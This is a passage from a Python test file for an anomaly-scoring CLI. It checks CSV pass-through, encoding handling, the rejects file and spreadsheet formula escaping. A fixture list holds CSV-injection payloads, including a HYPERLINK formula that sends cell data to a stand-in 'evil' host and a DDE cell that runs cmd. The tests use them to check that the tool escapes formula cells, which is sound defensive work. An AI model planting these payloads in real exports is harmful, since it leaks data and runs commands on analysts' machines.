    back = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in back] == ["plain", "a,b", 'say "hi"', "two\nlines", ""]
    assert [float(r[1]) if r[1] else None for r in back] == [1.5, 0.1, None, 1e-7, 3.0]


@pytest.mark.parametrize("ending", ["\n", "\r\n"])
def test_a_clean_csv_is_copied_through_byte_for_byte(
    capsys, bundle_dir: Path, tmp_path: Path, ending: str
) -> None:
    # Arrow parses a clean block, and the writer copies each record's text instead of
    # formatting its fields again: whatever way a number was written stays as it was.
    rows = lines_of(EVAL.head(40))
    cpu = list(EVAL.columns).index("cpu_pct")
    odd = rows[0].split(",")
    odd[cpu] = "1.50"
    notes = ['"a, b"', '"two\nlines"', '"say ""hi"""', "plain"]
    body = [",".join(odd) + ",plain"] + [
        r + "," + notes[i % len(notes)] for i, r in enumerate(rows[1:])
    ]
    path = tmp_path / "in.csv"
    path.write_bytes((ending.join([HEADER + ",note", *body]) + ending).encode())
    with open_source(str(path)) as source:
        (chunk,) = source.chunks(1000)
    assert chunk.records is not None  # Arrow's path, whose records the writer copies
    output = tmp_path / "out.csv"
    code, ledger, err = score(
        capsys, str(bundle_dir), str(path), "--output", str(output), "--keep-column", "note"
    )
    assert code == 0, err
    assert ledger["rows_read"] == ledger["rows_scored"] == 40
    text = output.read_text()
    for record in body:
        assert record.replace("\r\n", "\n") + "," in text.replace("\r\n", "\n")
    scored = pd.read_csv(output, dtype=str, keep_default_na=False)
    assert scored["cpu_pct"][0] == "1.50"
    assert scored["note"][2] == "two\nlines" and scored["note"][3] == 'say "hi"'
    assert list(scored.columns[-6:]) == [
        "anomaly_score", "p_value", "is_anomaly", "top_feature_1", "top_feature_2",
        "top_feature_3",
    ]  # fmt: skip
    assert pd.to_numeric(scored["anomaly_score"]).notna().all()


def test_top_indices_match_a_stable_descending_sort() -> None:
    from detector.scoring.scores import ScoreResult

    rng = np.random.default_rng(0)
    for _ in range(100):
        n, m = 40, int(rng.integers(1, 8))
        values = rng.integers(-2, 3, size=(n, m)).astype(float)  # many ties
        values[rng.random((n, m)) < 0.1] = np.nan
        values[rng.random((n, m)) < 0.1] = -np.inf
        result = ScoreResult(
            anomaly_score=np.zeros(n), p_value=np.zeros(n), is_anomaly=np.zeros(n, bool),
            contributions=values, columns=tuple("abcdefgh"[:m]), rows=np.arange(n),
            rejections=(), threshold=0.0, n_input=n,
        )  # fmt: skip
        ranked = np.where(np.isnan(values), -np.inf, values)
        expected = np.argsort(-ranked, axis=1, kind="stable")[:, : min(3, m)]
        np.testing.assert_array_equal(result.top_indices(3), expected)


@pytest.mark.parametrize("ragged", [False, True], ids=["arrow", "record-by-record"])
def test_passthrough_text_that_reads_as_missing_is_written_as_it_came(
    capsys, bundle_dir: Path, tmp_path: Path, ragged: bool
) -> None:
    # 2026-12-07: a kept column's 'NA' (a country), 'None' or empty field came out empty in a
    # TSV, null in JSON Lines and Parquet, and empty in a CSV whose input had its columns in
    # another order: the reader took them for missing values, as it does for the model's.
    kept = ["NA", "None", "", "null", "#N/A"]
    rows = [r + "," + k for r, k in zip(lines_of(EVAL.head(5)), kept, strict=True)]
    if ragged:  # a ragged row sends the block through Python's csv module
        rows.append("1,2")
    first = tmp_path / "a.csv"
    first.write_text("\n".join([HEADER + ",country", *rows]) + "\n")
    second = tmp_path / "b.csv"  # the same columns, in another order
    swapped = EVAL.head(1).assign(country="NA")[["country", *EVAL.columns]]
    second.write_text(",".join(swapped.columns) + "\n" + lines_of(swapped)[0] + "\n")
    for suffix in (".jsonl", ".tsv", ".csv"):
        output = tmp_path / f"out{suffix}"
        code, ledger, err = score(
            capsys, str(bundle_dir), str(first), str(second), "--output", str(output),
            "--keep-column", "country",
        )  # fmt: skip
        assert code == 0, err
        assert ledger["rows_scored"] == 6
        if suffix == ".jsonl":
            written = [json.loads(line)["country"] for line in output.read_text().splitlines()]
        else:
            sep = "\t" if suffix == ".tsv" else ","
            table = pd.read_csv(output, sep=sep, dtype=str, keep_default_na=False)
            written = table["country"].tolist()
        assert written == [*kept, "NA"], suffix
    chunks = scored_chunks.iter_scored(load_bundle(bundle_dir), first, passthrough=["country"])
    assert [v for c in chunks for v in c.frame["country"]] == kept
    # The model's own columns still read such text as missing, as before.
    missing = EVAL.head(1).assign(cpu_pct="NA", country="NA")
    path = tmp_path / "missing.csv"
    path.write_text(",".join(missing.columns) + "\n" + lines_of(missing)[0] + "\n")
    code, ledger, err = score(
        capsys, str(bundle_dir), str(path), "--output", str(tmp_path / "m.csv"),
        "--keep-column", "country", "--max-reject-rate", "1",
    )  # fmt: skip
    assert ledger["rows_rejected"] == 1, err
    rejects = (tmp_path / "m.csv.rejects.csv").read_text()
    assert "cpu_pct" in rejects and "empty" in rejects, rejects


@pytest.mark.parametrize("chunk_rows", ["65536", "2"])
def test_the_rejects_file_lists_rows_in_the_inputs_order(
    capsys, bundle_dir: Path, tmp_path: Path, chunk_rows: str
) -> None:
    # Rows that did not parse came first, then those whose values failed, each group in order;
    # in small chunks a block's unparsed rows went with its first chunk.
    rows = lines_of(EVAL.head(6))
    cpu = list(EVAL.columns).index("cpu_pct")
    empty = rows[2].split(",")
    empty[cpu] = ""
    rows[2] = ",".join(empty)  # data row 3: a missing value
    rows[4] = "1,2"  # data row 5: ragged
    path = tmp_path / "in.csv"
    path.write_text("\n".join([HEADER, *rows]) + "\n")
    output = tmp_path / "out.csv"
    code, ledger, err = score(
        capsys, str(bundle_dir), str(path), "--output", str(output), "--max-reject-rate", "1",
        "--chunk-rows", chunk_rows,
    )  # fmt: skip
    assert code == 0 and ledger["rows_rejected"] == 2 and ledger["rows_read"] == 6, err
    rejects = pd.read_csv(f"{output}.rejects.csv")
    assert rejects["row"].tolist() == [3, 5]
    assert rejects["code"].tolist() == ["missing_value", "ragged"]


#: Cells a spreadsheet runs as a formula when an analyst opens the CSV, and numbers it does not.
FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(A1)", "+1+cmd|' /C calc'!A0"]
SIGNED_NUMBERS = ["-5", "+3.2", "-1e3"]


def _noted_input(tmp_path: Path) -> Path:
    """data/eval.csv's first rows with a 'note' of formulas, then of signed numbers, then a
    line that is one formula (a ragged row: its raw text goes to the rejects file)."""
    notes = [*FORMULAS, *SIGNED_NUMBERS, *["plain"] * 4]
    quoted = ['"' + n.replace('"', '""') + '"' for n in notes]
    rows = [r + "," + q for r, q in zip(lines_of(EVAL.head(len(notes))), quoted, strict=True)]
    path = tmp_path / "in.csv"
    path.write_text("\n".join([HEADER + ",note", *rows, "=1+2"]) + "\n")
    return path


def test_escape_formulas_prefixes_formula_cells_and_leaves_numbers_as_they_are(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    path = _noted_input(tmp_path)
    output = tmp_path / "out.csv"
    code, ledger, err = score(
        capsys, str(bundle_dir), str(path), "--output", str(output), "--keep-column", "note",
        "--escape-formulas",
    )  # fmt: skip
    assert code == 0 and ledger["rows_scored"] == 10, err
    scored = pd.read_csv(output, dtype=str, keep_default_na=False)
    assert scored["note"].tolist() == [
        *("'" + f for f in FORMULAS), *SIGNED_NUMBERS, *["plain"] * 4
    ]  # fmt: skip
    assert scored[list(EVAL.columns)].values.tolist() == EVAL.head(10).values.tolist()
    rejects = pd.read_csv(ledger["rejects"], dtype=str, keep_default_na=False)
    assert rejects["raw"].tolist() == ["'=1+2"]
    # JSON Lines is no spreadsheet's: written as read.
    jsonl = tmp_path / "out.jsonl"
    code, _, err = score(
        capsys, str(bundle_dir), str(path), "--output", str(jsonl), "--keep-column", "note",
        "--escape-formulas",
    )  # fmt: skip
    assert code == 0, err
    notes = [json.loads(line)["note"] for line in jsonl.read_text().splitlines()]
    assert notes[:3] == FORMULAS


def test_formula_cells_are_written_as_read_and_the_summary_names_their_columns(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    path = _noted_input(tmp_path)
    output = tmp_path / "out.csv"
    code = main(["score", str(bundle_dir), str(path), "--output", str(output),
                 "--keep-column", "note"])  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 0, err
    scored = pd.read_csv(output, dtype=str, keep_default_na=False)
    assert scored["note"].tolist() == [*FORMULAS, *SIGNED_NUMBERS, *["plain"] * 4]
    rejects = pd.read_csv(f"{output}.rejects.csv", dtype=str, keep_default_na=False)
    assert rejects["raw"].tolist() == ["=1+2"]
    assert (
        "warning: 4 text cells (columns note, raw of the rejects) begin with =, +, -, @, a tab "
        "or a carriage return, which a spreadsheet runs as a formula; give --escape-formulas "
        "to write them with a leading '"
    ) in out, out


def test_a_windows_1252_file_trains_and_scores_as_its_utf8_twin_with_encoding(
    capsys, tmp_path: Path
) -> None:
    # A European Excel export ('Müller', '€' in a category column) could not be read: training
    # refused it whole ("is not UTF-8 text ... re-save it as UTF-8"), scoring rejected 976 of
    # its 1,500 rows, and nothing let the user say which encoding it was in.
    frame = pd.read_csv(DATA / "train.csv").head(400)
    frame["owner"] = np.resize(["Müller", "Señor €", "plain"], len(frame))
    utf8, cp1252, utf16 = (tmp_path / f"{name}.csv" for name in ("utf8", "cp1252", "utf16"))
    frame.to_csv(utf8, index=False)
    frame.to_csv(cp1252, index=False, encoding="cp1252")
    frame.to_csv(utf16, index=False, encoding="utf-16")  # with its byte-order mark
    flags = ["--epochs", "2", "--hidden-units", "16,8", "--latent-dim", "2", "--quiet"]
    for data, encoding in ((utf8, []), (cp1252, ["--encoding", "cp1252"])):
        assert (
            main(["train", str(data), "--out", str(tmp_path / data.stem), *flags, *encoding]) == 0
        )
    capsys.readouterr()
    model = tmp_path / "cp1252"
    assert load_bundle(model).version == load_bundle(tmp_path / "utf8").version
    scored = []
    for data, encoding in ((utf8, []), (cp1252, ["cp1252"]), (utf16, ["utf-16"])):
        output = tmp_path / f"{data.stem}.out.csv"
        argv = [str(model), str(data), "--output", str(output)]
        code, ledger, _ = score(capsys, *argv, *[f"--encoding={e}" for e in encoding])
        assert code == 0 and ledger["rows_scored"] == 400, ledger
        scored.append(output.read_bytes())
    assert scored[0] == scored[1] == scored[2]
    # A byte cp1252 does not define rejects its row, as a byte not UTF-8 does without it.
    cp1252.write_bytes(cp1252.read_bytes().replace(b"M\xfcller", b"M\x81ller", 1))
    argv = [str(model), str(cp1252), "--output", str(tmp_path / "o.csv"), "--encoding", "cp1252"]
    code, ledger, _ = score(capsys, *argv)
    assert (ledger["rows_read"], ledger["rows_scored"], ledger["rejected_by_code"]) == (
        400,
        399,
        {"encoding": 1},
    )
    rejected = pd.read_csv(tmp_path / "o.csv.rejects.csv")
    assert rejected["reason"][0].startswith("not cp1252 text; the file may be in an encoding")
    with pytest.raises(SystemExit) as usage:
        score(capsys, *argv[:-1], "latin-9x")
    err = capsys.readouterr().err
    assert usage.value.code == 2 and "'latin-9x' is not a text encoding Python knows" in err, err
    # Spark splits files at newline bytes before it decodes them: UTF-16's are other bytes.
    code, _, err = score(capsys, *argv[:-1], "utf-16", "--engine", "spark")
    assert code == 2 and "--encoding utf-16 is not available with --engine spark" in err, err


def test_json_lines_in_another_encoding_read_as_their_utf8_twin_and_name_it_when_not(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    # A line that did not decode was told "'utf-8' codec can't decode byte 0x81", --encoding
    # cp1252 given or not.
    table = EVAL.head(4).assign(note="Müller €")
    utf8, cp1252 = tmp_path / "utf8.jsonl", tmp_path / "cp1252.jsonl"
    table.to_json(utf8, orient="records", lines=True, force_ascii=False)
    text = utf8.read_text(encoding="utf-8")
    cp1252.write_bytes(text.encode("cp1252").replace(b"M\xfcller", b"M\x81ller", 1))
    outputs = []
    for path, encoding in ((utf8, []), (cp1252, ["--encoding", "cp1252"])):
        output = tmp_path / f"{path.stem}.csv"
        argv = [str(bundle_dir), str(path), "--output", str(output), "--keep-column", "note"]
        code, ledger, _ = score(capsys, *argv, *encoding)
        assert code == 0 and ledger["rows_read"] == 4, ledger
        outputs.append(pd.read_csv(output))
    assert outputs[1].equals(outputs[0].iloc[1:].reset_index(drop=True))
    reason = pd.read_csv(tmp_path / "cp1252.csv.rejects.csv")["reason"][0]
    assert reason.startswith("line 1 is not cp1252 text; the file may be in an encoding"), reason


def test_a_file_mostly_not_utf8_is_told_to_be_converted_once(
    capsys, bundle_dir: Path, tmp_path: Path
) -> None:
    # A Latin-1 export rejected every row one by one, each "re-save the file as UTF-8", and
    # the run ended "fix those rows, or pass --max-reject-rate 1" (a formats helper).
    table = EVAL.head(6).assign(note="café")
    path = tmp_path / "in.csv"
    path.write_bytes(table.to_csv(index=False).encode("latin-1"))
    argv = [
        str(bundle_dir),
        str(path),
        "--output",
        str(tmp_path / "o.csv"),
        "--keep-column",
        "note",
    ]
    code, _, err = score(capsys, *argv)
    assert code == 2 and "6 rows are not UTF-8 text" in err and "iconv -f cp1252" in err
    assert "give it with --encoding cp1252, or convert it once" in err
    table.head(2).to_csv(tmp_path / "good.csv", index=False)  # a third garbled: no hint
    path.write_bytes(
        (tmp_path / "good.csv").read_bytes()
        + table.tail(1).to_csv(index=False, header=False).encode("latin-1")
    )
    code, ledger, err = score(capsys, *argv)
    assert code == 0 and ledger["rejected_by_code"] == {"encoding": 1} and "iconv" not in err
